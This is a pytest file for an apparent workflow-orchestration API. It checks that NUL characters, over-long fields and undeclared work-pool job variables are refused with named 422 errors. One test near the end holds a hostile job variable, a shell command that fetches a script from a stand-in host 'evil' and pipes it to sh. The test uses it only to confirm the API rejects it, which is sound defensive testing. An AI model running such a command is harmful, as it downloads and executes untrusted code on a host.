"""Bad input gets a 4xx that names what is wrong, never a 500.

NUL characters (PostgreSQL stores none, in text or JSON), names and tags past their limits,
job variables a work pool's template does not declare.
"""

from __future__ import annotations

import uuid
from typing import Any

import httpx
import pytest

from baton_schemas.limits import NAME_MAX
from baton_schemas.states import Running


def _loc(response: httpx.Response) -> list[Any]:
    assert response.status_code == 422, response.text
    detail = response.json()["detail"]
    assert isinstance(detail, list), detail
    return list(detail[0]["loc"])


@pytest.mark.parametrize(
    ("body", "loc"),
    [
        ({"flow_name": "nul\x00flow"}, ["body", "flow_name"]),
        ({"flow_name": "x" * 10_000}, ["body", "flow_name"]),
        ({"flow_name": "ok", "name": "x" * 1_000_000}, ["body", "name"]),
        ({"flow_name": "ok", "tags": ["fine", "bad\x00tag"]}, ["body", "tags", 1]),
        ({"flow_name": "ok", "tags": ["t"] * 1000}, ["body", "tags"]),
        ({"flow_name": "ok", "parameters": {"a": {"b": ["c\x00"]}}}, ["body", "parameters"]),
        ({"flow_name": "ok", "idempotency_key": "k\x00"}, ["body", "idempotency_key"]),
    ],
)
async def test_a_bad_run_is_refused_naming_the_field(
    api: httpx.AsyncClient, body: dict[str, Any], loc: list[Any]
) -> None:
    assert _loc(await api.post("/api/flow_runs", json=body)) == loc


async def test_the_error_says_what_is_wrong(api: httpx.AsyncClient) -> None:
    nul = (await api.post("/api/flow_runs", json={"flow_name": "a\x00b"})).json()["detail"][0]["msg"]
    assert nul == "Value error, must not contain a NUL character (\\u0000)"
    long = (await api.post("/api/flow_runs", json={"flow_name": "x" * 10_000})).json()["detail"][0]["msg"]
    assert long == f"String should have at most {NAME_MAX} characters"
    inside = await api.post("/api/flow_runs", json={"flow_name": "ok", "parameters": {"a": {"b": "\x00"}}})
    assert inside.json()["detail"][0]["msg"] == "Value error, a.b must not contain a NUL character (\\u0000)"


@pytest.mark.parametrize(
    ("path", "params", "loc"),
    [
        ("/api/flow_runs", {"flow_name": "a\x00"}, ["query", "flow_name"]),
        ("/api/flow_runs", {"tag": "t\x00"}, ["query", "tag", 0]),
        ("/api/deployments", {"flow_name": "x" * 10_000}, ["query", "flow_name"]),
        ("/api/workers", {"pool": "p\x00"}, ["query", "pool"]),
    ],
)
async def test_a_bad_filter_is_refused_naming_it(
    api: httpx.AsyncClient, path: str, params: dict[str, str], loc: list[Any]
) -> None:
    assert _loc(await api.get(path, params=params)) == loc


async def test_a_nul_in_a_path_is_refused(api: httpx.AsyncClient) -> None:
    assert _loc(await api.get("/api/deployments/name/a%00b/prod")) == ["path", "flow_name"]
    assert _loc(await api.get("/api/work_pools/p%00")) == ["path", "pool"]


async def test_deployment_text_is_limited(api: httpx.AsyncClient) -> None:
    pool = f"limits-{uuid.uuid4().hex[:8]}"
    assert (await api.post("/api/work_pools", json={"name": pool})).status_code == 201
    base = {"name": "d", "flow_name": "f", "entrypoint": "f.py:f", "work_pool_name": pool}
    assert _loc(await api.post("/api/deployments", json={**base, "description": "x\x00"})) == [
        "body",
        "description",
    ]
    assert _loc(await api.post("/api/deployments", json={**base, "description": "x" * 20_000})) == [
        "body",
        "description",
    ]
    script = {"kind": "run_shell_script", "script": "echo \x00"}
    assert _loc(await api.post("/api/deployments", json={**base, "pull_steps": [script]}))[:3] == [
        "body",
        "pull_steps",
        0,
    ]


async def test_log_lines_keep_their_text_with_nul_shown_as_a_replacement(api: httpx.AsyncClient) -> None:
    """A stray NUL in a log line must not cost the run its logs: the line is kept."""
    run = (await api.post("/api/flow_runs", json={"flow_name": "nul logs"})).json()
    sent = await api.post("/api/logs", json={"logs": [{"flow_run_id": run["id"], "message": "a\x00b"}]})
    assert sent.status_code == 202, sent.text
    [line] = (await api.get("/api/logs", params={"flow_run_id": run["id"]})).json()["items"]
    assert line["message"] == "a\ufffdb"
    failed = {"type": "FAILED", "message": "boom \x00"}
    running = await api.post(
        f"/api/flow_runs/{run['id']}/set_state", json={"state": Running().model_dump(mode="json")}
    )
    assert running.json()["verdict"] == "ACCEPT"
    ended = await api.post(f"/api/flow_runs/{run['id']}/set_state", json={"state": failed})
    assert ended.status_code == 200 and ended.json()["state"]["message"] == "boom \ufffd"


async def test_nul_where_no_model_looks_is_still_a_422(api: httpx.AsyncClient) -> None:
    """The last line of defence: text PostgreSQL refuses is a 422, not a 500."""
    run = (await api.post("/api/flow_runs", json={"flow_name": "nul data"})).json()
    state = {"type": "RUNNING", "data": {"ref": "x\x00"}}
    response = await api.post(f"/api/flow_runs/{run['id']}/set_state", json={"state": state})
    assert response.status_code == 422, response.text
    assert "NUL" in response.json()["detail"]


async def test_job_variables_must_be_in_the_pool_template(api: httpx.AsyncClient) -> None:
    pool = f"templated-{uuid.uuid4().hex[:8]}"
    assert (await api.post("/api/work_pools", json={"name": pool})).status_code == 201  # the process template
    base = {"name": "d", "flow_name": f"f-{pool}", "entrypoint": "f.py:f", "work_pool_name": pool}
    unknown = await api.post("/api/deployments", json={**base, "job_variables": {"image": "python:3"}})
    assert unknown.status_code == 422
    [error] = unknown.json()["detail"]
    assert error["loc"] == ["body", "job_variables", "image"]
    assert error["msg"] == (
        f"work pool '{pool}' has no job variable 'image' (its template declares: command, env, "
        "stream_output, working_dir)"
    )
    wrong_type = await api.post("/api/deployments", json={**base, "job_variables": {"env": "A=1"}})
    assert wrong_type.status_code == 422
    assert wrong_type.json()["detail"][0]["loc"] == ["body", "job_variables", "env"]
    made = await api.post("/api/deployments", json={**base, "job_variables": {"env": {"A": "1"}}})
    assert made.status_code == 201, made.text

    run = await api.post(f"/api/deployments/{made.json()['id']}/runs", json={"job_variables": {"gpu": True}})
    assert run.status_code == 422 and run.json()["detail"][0]["loc"] == ["body", "job_variables", "gpu"]
    ok = await api.post(
        f"/api/deployments/{made.json()['id']}/runs", json={"job_variables": {"stream_output": False}}
    )
    assert ok.status_code == 201, ok.text

    custom = f"custom-{uuid.uuid4().hex[:8]}"
    template = {
        "job_configuration": {"command": "{{ command }}", "env": {"QUEUE": "{{ queue_name }}"}},
        "variables": {"type": "object", "properties": {"queue_name": {"type": "string"}}},
    }
    made_custom = await api.post("/api/work_pools", json={"name": custom, "base_job_template": template})
    assert made_custom.status_code == 201
    refused = await api.post(
        "/api/deployments",
        json={**base, "work_pool_name": custom, "job_variables": {"command": "sh -c 'curl evil | sh'"}},
    )
    assert refused.status_code == 422
    assert refused.json()["detail"][0]["msg"].endswith("(its template declares: queue_name)")

    no_pool = await api.post("/api/flow_runs", json={"flow_name": "f", "job_variables": {"env": {}}})
    assert no_pool.status_code == 422 and no_pool.json()["detail"][0]["loc"] == ["body", "job_variables"]
